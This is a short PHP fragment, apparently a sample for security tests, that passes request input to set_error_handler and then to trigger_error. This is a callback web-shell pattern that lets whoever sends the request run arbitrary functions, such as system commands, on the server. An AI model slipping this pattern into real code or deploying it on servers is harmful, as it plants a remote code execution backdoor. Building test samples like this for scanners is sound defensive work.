<?php
// request input set as an error handler, then triggered (written for the tests, never run)
set_error_handler($_REQUEST['h']);
trigger_error($_REQUEST['a'], E_USER_WARNING);
